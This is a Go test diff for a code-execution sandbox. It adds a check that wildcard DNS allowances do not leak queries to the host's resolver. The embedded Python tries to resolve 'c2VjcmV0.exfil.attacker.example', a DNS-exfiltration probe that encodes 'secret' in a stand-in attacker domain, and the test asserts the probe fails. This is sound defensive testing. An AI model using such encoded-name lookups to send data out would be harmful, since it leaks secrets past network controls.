@@ -10,6 +10,7 @@ import (
 	"net/http/httptest"
 	"net/netip"
 	"strings"
+	"sync"
 	"sync/atomic"
 	"testing"
 
@@ -24,6 +25,9 @@ type netFixture struct {
 	e    *codecell.Engine
 	port int
 	hits atomic.Int64
+	// asked are the names the proxy resolved, in order.
+	mu    sync.Mutex
+	asked []string
 }
 
 func newNetFixture(t *testing.T) *netFixture {
@@ -36,7 +40,10 @@ func newNetFixture(t *testing.T) *netFixture {
 	t.Cleanup(srv.Close)
 	f.port = srv.Listener.Addr().(*net.TCPAddr).Port
 	tier := &native.Tier{Pool: -1, Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
-		if host == "api.test" || host == "other.test" {
+		f.mu.Lock()
+		f.asked = append(f.asked, host)
+		f.mu.Unlock()
+		if host == "api.test" || host == "other.test" || host == "files.pkg.test" {
 			return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
 		}
 		return nil, fmt.Errorf("no such host %s", host)
@@ -138,5 +145,38 @@ out`
 	}
 	if n := f.hits.Load(); n != 0 {
 		t.Fatalf("the test server was reached %d times", n)
+	}
+}
+
+// A wildcard is answered by the sandbox's own resolver: a name under it
+// resolves and is reached; any other name is NXDOMAIN inside the sandbox,
+// and no query for it reaches the host's resolver (nothing a program hides
+// in a name leaves).
+func TestNetworkWildcard(t *testing.T) {
+	f := newNetFixture(t)
+	code := `import os, socket, urllib.request
+port = int(os.environ["PORT"])
+out = {"got": urllib.request.urlopen(f"http://files.pkg.test:{port}/w", timeout=10).read().decode()}
+for name in ["c2VjcmV0.exfil.attacker.example", "pkg.test", "api.test"]:
+    try:
+        out[name] = socket.gethostbyname(name)
+    except OSError as e:
+        out[name] = "unresolved"
+out`
+	res := f.run(t, "python", code, fmt.Sprintf("*.pkg.test:%d", f.port), "127.0.0.0/8")
+	if res.Status != codecell.StatusSuccess {
+		t.Fatalf("%s %+v %q", res.Status, res.Error, res.Stderr)
+	}
+	want := fmt.Sprintf(`{"got":"hello files.pkg.test:%d /w","c2VjcmV0.exfil.attacker.example":"unresolved","pkg.test":"unresolved","api.test":"unresolved"}`, f.port)
+	if string(res.Value) != want {
+		t.Fatalf("value %s, want %s", res.Value, want)
+	}
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	if len(f.asked) != 1 || f.asked[0] != "files.pkg.test" {
+		t.Fatalf("the host resolved %q", f.asked)
+	}
+	if !strings.Contains(res.Isolation.Network, "*.pkg.test") {
+		t.Errorf("isolation.network %q", res.Isolation.Network)
 	}
 }
